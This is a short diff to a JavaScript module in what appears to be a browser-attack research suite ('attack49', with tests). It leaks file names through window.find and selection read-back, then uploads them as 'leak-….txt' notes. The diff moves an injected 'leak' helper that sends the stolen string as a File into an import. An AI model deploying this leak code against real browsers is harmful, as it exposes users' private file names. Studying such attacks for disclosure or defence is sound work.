@@ -7,10 +7,8 @@
 // draws (attack 48's findsel). A name learnt goes up as a text note "leak-….txt".
 // Served by server.mjs at /attack49-…; tests: attack49.test.mjs.
 
-import { attackPages, browsersOwnPick, pickerWaysPage } from './uploads.mjs';
+import { leakNote as leak, attackPages, browsersOwnPick, pickerWaysPage } from './uploads.mjs';
 
-/** Upload what was learnt (a name, or a bit) as a text note, once. */
-const leak = "const leak = (s, why) => { note(why + ' leak: ' + s); if (!window.once49) { window.once49 = 1; send([new File(['leaked: ' + s], 'leak-' + String(s).replace(/[^A-Za-z0-9._-]/g, '_') + '.txt', { type: 'text/plain' })], why); } };";
 
 /** attack 48's findsel on whatever is connected now: window.find('.jpg'), the selection stretched over its line, read back. */
 const findsel = (why) => `const hit = window.find('.jpg'); const sel = getSelection(); note('find .jpg ' + hit);
